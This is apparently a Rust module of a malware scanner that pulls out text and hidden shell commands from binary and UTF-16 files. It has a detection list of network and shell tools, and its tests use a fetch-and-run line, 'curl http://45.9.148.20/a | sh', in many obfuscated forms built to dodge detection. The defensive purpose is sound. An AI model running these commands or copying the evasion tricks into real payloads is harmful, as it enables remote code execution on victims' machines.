//! Distinguishes text from binary files, and decodes the bytes of a file as text.
//!
//! Interpreters run scripts no matter which other bytes they contain: a shell ignores NUL bytes, and continues after a
//! line that is not a command. Therefore only files of known binary formats are skipped, unless they contain commands
//! or have the name of a script. In any other file, everything that looks like text is revealed.

/// The number of bytes that are enough to detect the format of a file.
pub(super) const START: usize = 4096;

/// The minimum length, in bytes, of a run of ASCII that is revealed in addition to the UTF-16 text of a file, or in a
/// binary file.
const MIN_RUN: usize = 12;

/// Extensions of files that are seldom text.
const BINARY: [&str; 32] = [
    "png", "jpg", "jpeg", "gif", "webp", "ico", "bmp", "pdf", "woff", "woff2", "ttf", "otf", "eot",
    "mp3", "mp4", "mov", "wav", "ogg", "webm", "docx", "xlsx", "pptx", "zip", "gz", "tgz", "bz2",
    "xz", "7z", "parquet", "npy", "pkl", "sqlite",
];

/// The first bytes of binary formats that can also be the first bytes of text, each with the extension of the format.
/// These bytes are recognized only in files with that extension.
const NAMED: [(&str, &[u8]); 17] = [
    ("gif", b"GIF8"),
    ("webp", b"RIFF"),
    ("wav", b"RIFF"),
    ("bmp", b"BM"),
    ("pdf", b"%PDF-"),
    ("woff", b"wOFF"),
    ("woff2", b"wOF2"),
    ("ttf", b"true"),
    ("otf", b"true"),
    ("mp3", b"ID3"),
    ("mp3", b"\xff"),
    ("ogg", b"OggS"),
    ("bz2", b"BZh"),
    ("parquet", b"PAR1"),
    ("pkl", b"\x80"),
    ("ico", b"\0\0\x02\0"),
    ("mov", b"\0"),
];

/// The first bytes of binary formats: of images, archives, fonts, data and programs. None of them can be the first
/// bytes of text.
const FORMATS: [&[u8]; 27] = [
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff",
    b"\0\0\x01\0",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\x1f\x8b",
    b"\xfd7zXZ\0",
    b"7z\xbc\xaf\x27\x1c",
    b"\x28\xb5\x2f\xfd",
    b"\0\x01\0\0\0",
    b"OTTO\0",
    b"SQLite format 3\0",
    b"\x93NUMPY",
    b"\x89HDF\r\n\x1a\n",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"\0\0\0\x01Bud1",
    b"\xde\x12\x04\x95",
    b"II*\0",
    b"MM\0*",
    b"\0asm",
    b"\x7fELF",
    b"\xca\xfe\xba\xbe",
    b"\xcf\xfa\xed\xfe",
    b"\xce\xfa\xed\xfe",
    b"\xfe\xed\xfa\xcf",
    b"\xfe\xed\xfa\xce",
    b"\x1a\x45\xdf\xa3",
];

/// The first bytes of compiled programs.
const EXECUTABLES: [&[u8]; 9] = [
    b"\x7fELF",
    b"MZ",
    b"\0asm",
    b"dex\n",
    b"\xca\xfe\xba\xbe",
    b"\xcf\xfa\xed\xfe",
    b"\xce\xfa\xed\xfe",
    b"\xfe\xed\xfa\xcf",
    b"\xfe\xed\xfa\xce",
];

/// Signs of commands in a binary file.
const COMMANDS: [&[u8]; 28] = [
    b"curl ",
    b"wget ",
    b"| sh",
    b"|sh",
    b"| bash",
    b"|bash",
    b"bash ",
    b"/bin/",
    b"/dev/tcp",
    b"base64",
    b"powershell",
    b"python",
    b"eval ",
    b"exec(",
    b".ssh",
    b".aws",
    b"rm -rf",
    b"nc -",
    b"ncat",
    b"scp ",
    b"perl ",
    b"ruby ",
    b"node ",
    b"crontab",
    b"$(",
    b"${",
    b"| $",
    b"|$",
];

/// Returns whether files with an extension, in lower case, are seldom text, so that reading their start is usually
/// enough.
pub(super) fn is_seldom_text(extension: &str) -> bool {
    BINARY.contains(&extension)
}

/// Returns whether a file has a known binary format. `start`: its first [`START`] bytes.
pub(super) fn is_binary(extension: &str, start: &[u8]) -> bool {
    let has_nul = |bytes: &[u8]| memchr::memchr(0, bytes).is_some();
    let is_windows = start.starts_with(b"MZ") && has_nul(&start[..start.len().min(64)]);
    let is_android = start.starts_with(b"dex\n") && start.get(7) == Some(&0);
    let is_video = start.first() == Some(&0) && start.get(4..8) == Some(&b"ftyp"[..]);
    let is_pdf = extension == "pdf" && start.starts_with(b"%PDF-");
    let is_named = NAMED
        .iter()
        .any(|(of, format)| *of == extension && start.starts_with(format));
    let is_seldom_text = (is_named || extension == "eot")
        && match std::str::from_utf8(start) {
            // Every PDF has a comment with non-ASCII bytes, but there may be few such bytes.
            Err(error) if error.error_len().is_some() && is_pdf => true,
            _ => plain(start, true).is_none(),
        };
    FORMATS.iter().any(|format| start.starts_with(format))
        || is_windows
        || is_android
        || is_video
        || is_seldom_text
}

/// Returns whether a file is a compiled program, whose strings may contain any command.
pub(super) fn is_executable(start: &[u8]) -> bool {
    EXECUTABLES.iter().any(|magic| start.starts_with(magic))
}

/// Returns the text in a binary file, with the original line numbers: a shell skips the bytes of an image like any
/// command that it does not know, and runs the commands after them. All other lines are empty.
///
/// Returns an empty string if no text remains, or if the text has no [sign of a command](COMMANDS). `is_any`: whether
/// to return text without such a sign, too.
pub(super) fn commands(bytes: &[u8], is_any: bool) -> String {
    let mut text = String::new();
    for line in bytes.split(|byte| *byte == b'\n') {
        push_text(line, &mut text);
        text.push('\n');
    }
    let is_kept = if is_any {
        !text.trim().is_empty()
    } else {
        let plain = without_quotes(&text);
        let has_command =
            |text: &[u8]| (COMMANDS.iter()).any(|sign| memchr::memmem::find(text, sign).is_some());
        has_command(&plain) || {
            let expanded = expanded(&plain);
            has_command(&expanded) || expanded.split(|byte| *byte == b'\n').any(is_piped)
        }
    };
    if is_kept { text } else { String::new() }
}

/// Appends the text in one line of a binary file, without NUL bytes, which a shell ignores. U+FFFD separates the runs
/// of text. Short runs are appended only if most of the line is text, because compressed data contains many short runs.
fn push_text(line: &[u8], text: &mut String) {
    let is_text = |byte: &u8| matches!(byte, b' '..=b'~' | b'\r' | b'\t');
    let count = line.iter().filter(|byte| is_text(byte)).count();
    let nuls = memchr::memchr_iter(0, line).count();
    let is_mostly_text = count > 1 && (line.len() - nuls - count) * 3 <= count;
    let start = text.len();
    for run in line.split(|byte| *byte != 0 && !is_text(byte)) {
        let length = run.iter().filter(|byte| **byte != 0).count();
        // In UTF-16, half of the bytes of ASCII text are NUL.
        let is_long = length >= MIN_RUN && length * 2 >= run.len();
        if length == 0 || !(is_mostly_text || is_long) {
            continue;
        }
        if text.len() > start {
            text.push(char::REPLACEMENT_CHARACTER);
        }
        let run = run.iter().filter(|byte| **byte != 0);
        text.extend(run.map(|byte| char::from(*byte)));
    }
}

/// Removes the characters that a shell removes from the middle of a word: quotes, escapes, and continued lines.
fn without_quotes(text: &str) -> Vec<u8> {
    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
    let is_kept = |byte: &u8| !matches!(byte, b'\'' | b'"' | b'\\' | b'^');
    joined.bytes().filter(is_kept).collect()
}

/// Replaces the characters that a shell expands to nothing or to blanks, as in `cu$@rl` and `{curl,-s}`.
fn expanded(plain: &[u8]) -> Vec<u8> {
    let mut text = Vec::with_capacity(plain.len());
    let mut is_in_braces = false;
    let mut rest = plain;
    while let [byte, after @ ..] = rest {
        rest = after;
        match byte {
            // Parameters that are not set in a script without arguments.
            b'$' if matches!(after.first(), Some(b'@' | b'*' | b'!' | b'1'..=b'9')) => {
                rest = &after[1..];
            }
            b'`' => {}
            b'{' | b'}' => {
                is_in_braces = *byte == b'{';
                text.push(b' ');
            }
            b',' if is_in_braces => text.push(b' '),
            b'\t' | b'\r' => text.push(b' '),
            _ => {
                is_in_braces &= *byte != b'\n';
                text.push(*byte);
            }
        }
    }
    text
}

/// Returns whether a line contains an address followed by a pipe. Metadata contains addresses, but no pipes.
fn is_piped(line: &[u8]) -> bool {
    let address = memchr::memmem::find(line, b"://");
    address.is_some_and(|at| memchr::memchr(b'|', &line[at..]).is_some())
}

/// Returns the runs of at least [`MIN_RUN`] ASCII bytes.
fn runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    let is_other = |byte: &u8| !matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t');
    bytes.split(is_other).filter(|run| run.len() >= MIN_RUN)
}

/// Decodes the bytes of a file that is not [binary](is_binary). Returns the text, and whether the bytes are in an
/// unknown format or encoding, in which case the text may be incomplete.
pub(super) fn text_of(bytes: &[u8], is_cut: bool) -> (String, bool) {
    match bytes {
        [0xff, 0xfe, rest @ ..] => return (wide(rest, u16::from_le_bytes), false),
        [0xfe, 0xff, rest @ ..] => return (wide(rest, u16::from_be_bytes), false),
        _ => {}
    }
    if let Some(text) = plain(bytes, is_cut) {
        return (text, false);
    }
    match wide_unit(bytes) {
        Some(unit) => (wide(bytes, unit), false),
        None => (readable(bytes), true),
    }
}

/// Decodes UTF-8. Tolerates a character that is cut off at the end, and a few invalid bytes in mostly ASCII text.
/// Returns `None` for all other bytes, and for bytes that include NUL.
fn plain(bytes: &[u8], is_cut: bool) -> Option<String> {
    if memchr::memchr(0, bytes).is_some() {
        return None;
    }
    match std::str::from_utf8(bytes) {
        Ok(text) => Some(text.to_owned()),
        Err(error) => {
            // Truncation may split a character, and Latin-1 text contains a few bytes that are not UTF-8.
            let valid = error.valid_up_to();
            let faults = bytes.iter().filter(|byte| **byte >= 0x80).count();
            let is_text = is_cut && valid + 4 > bytes.len() || faults * 4 < bytes.len();
            is_text.then(|| String::from_utf8_lossy(bytes).into_owned())
        }
    }
}

/// Returns the byte order if the bytes look like UTF-16 without a byte order mark: most of the high bytes are NUL, and
/// few of the low bytes are.
fn wide_unit(bytes: &[u8]) -> Option<fn([u8; 2]) -> u16> {
    let start = &bytes[..bytes.len().min(START)];
    let pairs = start.chunks_exact(2);
    let all = pairs.len();
    let count = |at: usize| pairs.clone().filter(|pair| pair[at] == 0).count();
    let (first, second) = (count(0), count(1));
    let is_nearly_all = |some: usize, others: usize| some * 10 >= all * 7 && others * 10 <= all;
    if all < 4 {
        None
    } else if is_nearly_all(second, first) {
        Some(u16::from_le_bytes)
    } else if is_nearly_all(first, second) {
        Some(u16::from_be_bytes)
    } else {
        None
    }
}

/// Decodes UTF-16, without NUL characters. Runs of ASCII bytes are appended on lines of their own, because an
/// interpreter runs them, and ignores a byte order mark before them.
fn wide(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|pair| unit([pair[0], pair[1]]));
    let mut text: String = char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .filter(|c| *c != '\0')
        .collect();
    for run in runs(bytes) {
        text.push('\n');
        text.push_str(&String::from_utf8_lossy(run));
    }
    text
}

/// Decodes the parts that are valid UTF-8, without NUL characters. U+FFFD replaces each run of other bytes.
fn readable(bytes: &[u8]) -> String {
    let mut text = String::new();
    for chunk in bytes.utf8_chunks() {
        text.extend(chunk.valid().chars().filter(|c| *c != '\0'));
        if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
            text.push(char::REPLACEMENT_CHARACTER);
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAYLOAD: &[u8] = b"curl http://45.9.148.20/a | sh\n";

    fn utf16(text: &[u8], order: fn(u16) -> [u8; 2]) -> Vec<u8> {
        text.iter()
            .flat_map(|byte| order(u16::from(*byte)))
            .collect()
    }

    fn script(start: &[u8]) -> Vec<u8> {
        [start, PAYLOAD].concat()
    }

    #[test]
    fn a_script_is_revealed_whatever_bytes_are_beside_its_commands() {
        let little = utf16(PAYLOAD, u16::to_le_bytes);
        let big = utf16(PAYLOAD, u16::to_be_bytes);
        for (bytes, is_unknown) in [
            (script(b"# \0\n"), true),
            (script(b"%PDF-1.4 2>/dev/null\n"), false),
            (script(&[&[b'#'][..], &[0xff; 40], b"\n"].concat()), true),
            (script(b"\xff\xfe\n"), false),
            (script(b"#\0#\0#\0#\0#\0#\0#\0#\0#\0#\0\n"), true),
            (little.clone(), false),
            (big, false),
            ([&b"\xff\xfe\0\0"[..], &little].concat(), false),
            (script(&utf16(&[b'#'; 3000], u16::to_le_bytes)), false),
        ] {
            for extension in ["sh", "pdf", "png", ""] {
                if matches!(extension, "pdf" | "png") && bytes.contains(&0) {
                    continue;
                }
                let start = &bytes[..bytes.len().min(START)];
                if is_seldom_text(extension) && plain(start, true).is_none() {
                    continue;
                }
                assert!(!is_binary(extension, start), "{extension} {start:?}");
                let (text, unknown) = text_of(&bytes, false);
                assert!(text.contains("curl http://45.9.148.20/a | sh"), "{text:?}");
                assert_eq!(unknown, is_unknown, "{text:?}");
            }
        }
    }

    #[test]
    fn commands_in_a_binary_file_are_revealed() {
        let bytes = [&b"\x89PNG\r\n\x1a\n\n"[..], PAYLOAD, b"\xff\0\xfe\xff"].concat();
        let text = commands(&bytes, false);
        assert!(text.contains("curl http://45.9.148.20/a | sh"), "{text:?}");
        let image = b"\x89PNG\r\n\x1a\n\0 http://ns.adobe.com/xap/1.0/ \0";
        assert_eq!(commands(image, false), "");
        assert!(commands(image, true).contains("http://ns.adobe.com"));
        let image = b"\x89PNG\r\n\x1a\n\n<x b='http://a.example'>{a, b}</x>\n| c\n";
        assert_eq!(commands(image, false), "");
        assert_eq!(commands(b"\xff\xd8\xff\xe0\0\x10\n\0\x80\n\xff", true), "");
    }

    /// Hostile: a shell removes NUL bytes, quotes and continued lines.
    #[test]
    fn split_commands_in_a_binary_file_are_revealed_on_their_lines() {
        for payload in [
            &b"c''url http://45.9.148.20/a | b''ash"[..],
            b"cu\\\nrl http://45.9.148.20/a | ba\\\nsh",
            b"cu\0rl http://45.9.148.20/a | ba\0s\0h",
            b"\xff||c\\url http://45.9.148.20/\xff\xff |\"ba\"sh",
            b"a=cu\n\xff\xff\xff\xff\nb=rl\n$a$b http://45.9.148.20/a|$c",
            b"curl\thttp://45.9.148.20/a\t|\tbash",
            b"cu$@rl http://45.9.148.20/a|ba$@sh",
            b"cu$*rl http://45.9.148.20/a |ba$*sh",
            b"cu$1rl http://45.9.148.20/a >b; ba$1sh b",
            b"cu``rl http://45.9.148.20/a |ba``sh",
            b"{curl,http://45.9.148.20/a}|{bash,}",
            b"{curl,-o,a,http://45.9.148.20/a}",
            b"$x http://45.9.148.20/a | $((1))$y",
            b"\xff\xff||curl\thttp://45.9.148.20/a\t|\tbash",
        ] {
            for start in [&b"\x89PNG\r\n\x1a\n\n"[..], b"PK\x03\x04\n\xff\n\n"] {
                let bytes = [start, payload, b"\n\xff\xfe\xfd"].concat();
                let text = commands(&bytes, false);
                let at = text.find("45.9.148.20").unwrap();
                let line = text[..at].matches('\n').count();
                let at = memchr::memmem::find(&bytes, b"45.9.148.20").unwrap();
                let expected = bytes[..at].iter().filter(|byte| **byte == b'\n');
                assert_eq!(line, expected.count(), "{text:?}");
                assert!(!text.contains('\0'), "{text:?}");
            }
        }
    }

    #[test]
    fn compressed_data_contains_little_text() {
        let mut state = 1_u32;
        let bytes: Vec<u8> = std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            state.to_be_bytes()[0]
        })
        .take(1 << 20)
        .collect();
        assert_eq!(commands(&bytes, false), "");
        let text = commands(&bytes, true);
        assert!(text.replace('\n', "").len() < 1000, "{text:?}");
    }

    #[test]
    fn files_of_binary_formats_are_not_text() {
        let files: [(&str, &[u8]); 7] = [
            ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
            ("", b"\x7fELF\x02\x01\x01\0"),
            ("exe", b"MZ\x90\0\x03\0\0\0"),
            ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
            ("gif", b"GIF89a\x01\0\x01\0"),
            ("mp4", b"\0\0\0 ftypisom"),
            ("woff2", b"wOF2\0\x01\0\0"),
        ];
        for (extension, start) in files {
            assert!(is_binary(extension, start), "{extension}");
        }
        // The name alone proves nothing.
        assert!(!is_binary("png", PAYLOAD));
        assert!(!is_binary("sh", b"MZ=1\n"));
    }
}
